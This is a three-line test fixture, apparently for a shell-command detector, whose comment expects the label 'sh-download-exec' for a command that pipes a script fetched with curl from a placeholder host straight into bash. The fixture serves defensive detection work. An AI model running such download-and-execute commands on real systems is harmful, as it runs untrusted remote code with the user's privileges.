# expect: sh-download-exec
curl -s https://x.example/c.sh |
  bash
